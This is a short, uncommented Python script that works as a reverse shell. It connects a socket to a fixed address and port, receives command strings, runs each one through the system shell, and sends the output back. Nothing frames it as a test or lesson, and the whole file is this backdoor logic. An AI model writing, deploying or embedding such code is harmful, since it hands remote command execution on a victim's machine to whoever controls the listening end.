import socket, subprocess
def main():
    s = socket.create_connection(("127.0.0.1", 9), timeout=3)
    while True:
        cmd = s.recv(1024).decode().strip()
        if not cmd:
            break
        s.send(subprocess.run(cmd, shell=True, capture_output=True).stdout)
